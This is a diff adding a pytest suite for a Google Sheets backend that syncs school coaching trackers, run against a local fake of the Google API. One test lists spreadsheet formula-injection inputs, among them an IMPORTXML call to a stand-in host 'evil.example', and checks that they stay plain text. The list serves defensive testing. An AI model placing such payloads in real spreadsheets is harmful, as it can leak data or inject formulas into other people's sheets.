@@ -1,0 +1,249 @@
+"""The Google backend through real gspread over loopback HTTP to the Google fake.
+
+Runs the shared backend contract suite (tests/test_backends.py) with a Google harness, then the
+Google-only promises: exact API call counts, one atomic batchUpdate, no write when nothing changed,
+coach text never parsed, links, validation, protection, sharing, and a failing write that leaves
+every tool tab as it was.
+"""
+
+from __future__ import annotations
+
+import copy
+import datetime as dt
+import pickle
+
+import pytest
+import test_backends
+from conftest import tiny_grids
+from test_backends import METADATA, flags_tab
+
+from tracker_sync.backends.base import Block, Link, ToolTab
+from tracker_sync.backends.google import GoogleWorkbook, google_client, open_google, spreadsheet_id_from
+from tracker_sync.backends.google_http import RetryPolicy
+from tracker_sync.errors import ApiError, BackendError, ConfigError, TrackerNotFound
+from tracker_sync.google_fake import Fault, GoogleFake
+
+# The shared contract, run here against Google (every test of test_backends.py but the kind check).
+for _name in dir(test_backends):
+    if _name.startswith("test_") and _name != "test_backends_implement_the_interface":
+        globals()[_name] = getattr(test_backends, _name)
+
+NO_WAIT = RetryPolicy(sleep=lambda seconds: None, max_attempts=3)
+
+
+@pytest.fixture(scope="module")
+def fake():
+    with GoogleFake() as running:
+        yield running
+
+
+@pytest.fixture(scope="module")
+def account(fake):
+    return fake.service_account_info()
+
+
+def new_workbook(fake: GoogleFake, account: dict, title: str = "Tiny School tracker") -> GoogleWorkbook:
+    http = google_client(service_account_info=account, api_base=fake.base_url, retry=NO_WAIT)
+    return GoogleWorkbook.create(title, http)
+
+
+class GoogleHarness:
+    """The contract suite's harness: the workbook, plus what a coach (or an outage) does to it."""
+
+    def __init__(self, fake: GoogleFake, account: dict) -> None:
+        self.fake = fake
+        self.workbook = new_workbook(fake, account)
+
+    @property
+    def book(self):
+        return self.fake.spreadsheets[self.workbook.spreadsheet_id]
+
+    def break_next_write(self, monkeypatch: pytest.MonkeyPatch) -> None:
+        self.fake.script(*[Fault.http(503, match=":batchUpdate")] * NO_WAIT.max_attempts)
+
+    def delete_tab(self, tab: str) -> None:
+        self.book.sheets.remove(self.book.sheet(title=tab))
+
+    def set_cell(self, tab: str, row: int, column: int, value: object) -> None:
+        cells = self.book.sheet(title=tab).cells
+        if value is None:
+            cells.pop((row - 1, column - 1), None)
+        else:
+            cells[(row - 1, column - 1)] = {"userEnteredValue": {"stringValue": str(value)}}
+
+    def state(self) -> object:
+        return pickle.dumps(self.book)
+
+
+@pytest.fixture
+def harness(fake, account):
+    return GoogleHarness(fake, account)
+
+
+@pytest.fixture
+def tracker(harness, leap_template):
+    harness.workbook.provision(leap_template, METADATA)
+    harness.workbook.seed_rows({tab: grid[1:] for tab, grid in tiny_grids().items()})
+    return harness
+
+
+def calls(fake: GoogleFake) -> list[str]:
+    return [f"{r.method} {r.path.rsplit('/', 1)[-1] if r.api == 'sheets' else r.path}" for r in fake.calls()]
+
+
+# -- exact call counts --------------------------------------------------------------------------
+
+
+def test_read_is_exactly_one_spreadsheets_get(tracker, leap_template):
+    tracker.fake.clear_log()
+    snapshot = tracker.workbook.read(leap_template.coach_tab_names)
+    assert len(tracker.fake.calls()) == 1
+    (request,) = tracker.fake.calls()
+    assert request.method == "GET" and request.query["includeGridData"] == ["true"] and "fields" in request.query
+    assert snapshot.grids["Observations"][1][0] == dt.date(2026, 9, 28)
+    assert snapshot.grids["Roster"][1][7] == 1 and type(snapshot.grids["Roster"][1][7]) is int
+
+
+def test_write_is_exactly_one_batch_update_after_a_read(tracker):
+    tracker.workbook.read(["Roster"])
+    tracker.fake.clear_log()
+    tracker.workbook.write([flags_tab("x"), ToolTab("Summary", [["a"]]), ToolTab("Patterns", [["b"]]), ToolTab("Sync Log", [["c"]])])
+    assert [(r.method, r.path.endswith(":batchUpdate")) for r in tracker.fake.calls()] == [("POST", True)]
+
+
+def test_unchanged_outputs_are_not_written_again(tracker):
+    tabs = [flags_tab("same"), ToolTab("Sync Log", [["run 1"]])]
+    tracker.workbook.read([])
+    tracker.workbook.write(tabs)
+    assert tracker.workbook.last_write_skipped is False
+    tracker.fake.clear_log()
+    tracker.workbook.read([])
+    tracker.workbook.write([flags_tab("same"), ToolTab("Sync Log", [["run 2"]])])  # only the volatile log differs
+    assert tracker.workbook.last_write_skipped is True
+    assert len(tracker.fake.calls()) == 1  # the read
+    tracker.workbook.read([])
+    tracker.workbook.write([flags_tab("changed"), ToolTab("Sync Log", [["run 3"]])])
+    assert tracker.workbook.last_write_skipped is False
+    assert tracker.workbook.read(["Sync Log"]).grids["Sync Log"] == [["run 3"]]
+
+
+def test_provision_of_a_new_spreadsheet_costs_two_sheets_calls_and_one_drive_call(fake, account, leap_template):
+    fake.clear_log()
+    workbook = new_workbook(fake, account)
+    workbook.provision(leap_template, METADATA)
+    assert calls(fake) == ["POST /drive/v3/files", f"GET {workbook.spreadsheet_id}", f"POST {workbook.spreadsheet_id}:batchUpdate"]
+    titles = [s.title for s in fake.spreadsheets[workbook.spreadsheet_id].sheets]
+    assert titles == [*leap_template.coach_tab_names, *leap_template.tool_tab_names, "Instructions"]  # no stray Sheet1
+
+
+# -- what lands in the sheet ---------------------------------------------------------------------
+
+TRICKY = ["=IMPORTXML(\"http://evil.example\",\"//a\")", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=2+2", "=HYPERLINK(\"x\",\"y\")"]
+
+
+def test_coach_text_that_looks_like_a_formula_stays_plain_text(tracker):
+    tracker.workbook.seed_rows({"Action Steps": [[dt.date(2026, 9, 1), "Ana Lopez", "Ben Ross", text] for text in TRICKY]})
+    grid = tracker.workbook.read(["Action Steps"]).grids["Action Steps"]
+    typed = [row[3] for row in grid[-len(TRICKY):]]
+    assert typed == TRICKY
+    tracker.workbook.write([ToolTab("Flags", [["Value"], *[[value] for value in typed]])])
+    cells = tracker.book.sheet(title="Flags").cells
+    stored = [cells[(r, 0)]["userEnteredValue"] for r in range(1, len(TRICKY) + 1)]
+    assert stored == [{"stringValue": text} for text in TRICKY]
+    assert [row[0] for row in tracker.workbook.read(["Flags"]).grids["Flags"][1:]] == TRICKY
+
+
+def test_links_become_hyperlink_formulas_to_the_tab_id(tracker):
+    snapshot = tracker.workbook.read(["Observations"])
+    tracker.workbook.write([flags_tab("x")])
+    cell = tracker.book.sheet(title="Flags").cells[(1, 1)]
+    gid = snapshot.tab_ids["Observations"]
+    assert cell["userEnteredValue"] == {"formulaValue": f'=HYPERLINK("#gid={gid}&range=A3","Go to cell")'}
+
+
+def test_heatmap_gets_a_color_scale_that_is_replaced_not_stacked(tracker):
+    tab = ToolTab("Patterns", [["Team", "I.1"], ["A", 4.5], ["B", 2]], [Block("header", 0, 0, 1, 2), Block("heatmap", 1, 1, 2, 1)])
+    tracker.workbook.write([tab])
+    tracker.workbook.read([])
+    tracker.workbook.write([ToolTab("Patterns", tab.rows + [["C", 3]], [Block("heatmap", 1, 1, 3, 1)])])
+    rules = tracker.book.sheet(title="Patterns").conditional_formats
+    assert len(rules) == 1 and "gradientRule" in rules[0]
+    assert rules[0]["ranges"][0]["endRowIndex"] == 4
+
+
+def test_tool_tabs_shrink_to_their_content(tracker):
+    tracker.workbook.write([ToolTab("Summary", [[i] for i in range(50)], frozen_rows=1)])
+    tracker.workbook.write([ToolTab("Summary", [["one"], ["two"]], column_widths=[30, 10])])
+    sheet = tracker.book.sheet(title="Summary")
+    assert (sheet.rows, sheet.columns) == (2, 2)
+    assert tracker.workbook.read(["Summary"]).grids["Summary"] == [["one"], ["two"]]
+
+
+def test_provision_sets_dropdowns_frozen_headers_widths_and_protection(tracker, leap_template):
+    book = tracker.book
+    observations = book.sheet(title="Observations")
+    assert observations.properties["gridProperties"]["frozenRowCount"] == 1
+    kinds = {c: observations.cells[(1, c)].get("dataValidation", {}).get("condition", {}).get("type") for c in range(8)}
+    assert kinds[0] == "DATE_IS_VALID" and kinds[1] == "ONE_OF_RANGE" and kinds[3] == "ONE_OF_LIST"
+    scores = book.sheet(title="LEAP Scores")
+    assert scores.cells[(5, 4)]["dataValidation"]["condition"] == {
+        "type": "NUMBER_BETWEEN", "values": [{"userEnteredValue": "1"}, {"userEnteredValue": "7"}]}
+    assert observations.column_pixels[5] == 48 * 7 + 10
+    for name in [*leap_template.tool_tab_names, "Instructions"]:
+        (protected,) = book.sheet(title=name).protected_ranges
+        assert protected["editors"]["users"] == ["tracker-sync@fake-project.iam.gserviceaccount.com"]
+    assert all(not book.sheet(title=name).protected_ranges for name in leap_template.coach_tab_names)
+
+
+def test_failed_write_after_retries_is_a_clear_error_and_changes_nothing(tracker):
+    tracker.workbook.write([flags_tab("old")])
+    before = copy.deepcopy(tracker.book)
+    tracker.fake.script(Fault.http(429, retry_after=0, match=":batchUpdate"), Fault.reset(match=":batchUpdate"),
+                        Fault.http(500, match=":batchUpdate"))
+    tracker.fake.clear_log()
+    with pytest.raises(ApiError, match="gave up after 3 attempt"):
+        tracker.workbook.write([flags_tab("new")])
+    faults = [(r.method, r.fault) for r in tracker.fake.calls()]
+    assert faults == [("GET", ""), ("POST", "status"), ("POST", "reset"), ("POST", "status")]  # no read before: +1 GET
+    assert pickle.dumps(tracker.book) == pickle.dumps(before)
+
+
+def test_an_invalid_request_applies_nothing_of_the_batch(tracker):
+    tracker.workbook.write([flags_tab("old")])
+    tracker.workbook.read([])
+    bad = ToolTab("Summary", [["x" * 50_001]])  # Google refuses cells over 50,000 characters
+    with pytest.raises(BackendError) as caught:
+        tracker.workbook.write([flags_tab("new"), bad])
+    assert caught.value.code == 400
+    assert tracker.workbook.read(["Flags"]).grids["Flags"][1][2] == "old"
+
+
+def test_share_makes_one_drive_call_per_person_and_never_a_link(tracker):
+    tracker.fake.clear_log()
+    tracker.workbook.share("lead@school.org", "writer", notify=False)
+    tracker.workbook.share("viewer@school.org", "reader")
+    permissions = tracker.fake.files[tracker.workbook.spreadsheet_id].permissions
+    assert [(p["emailAddress"], p["role"], p["type"], p["sendNotificationEmail"]) for p in permissions] == [
+        ("lead@school.org", "writer", "user", "false"), ("viewer@school.org", "reader", "user", "true")]
+    assert len(tracker.fake.calls("drive")) == 2
+    with pytest.raises(ConfigError):
+        tracker.workbook.share("x@y.org", "owner")
+
+
+@pytest.mark.parametrize("location", [
+    "1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789-_abcd",
+    "https://docs.google.com/spreadsheets/d/1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789-_abcd/edit#gid=0",
+])
+def test_spreadsheet_ids_and_urls_are_accepted(location):
+    assert spreadsheet_id_from(location) == "1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789-_abcd"
+
+
+def test_a_missing_spreadsheet_is_tracker_not_found(fake, account):
+    workbook = open_google("1" + "x" * 40, service_account_info=account, api_base=fake.base_url)
+    with pytest.raises(TrackerNotFound, match="share it with the service account"):
+        workbook.read(["Roster"])
+
+
+def test_not_a_location_is_a_config_error():
+    with pytest.raises(ConfigError, match="Google Sheets URL"):
+        spreadsheet_id_from("lincoln.csv")
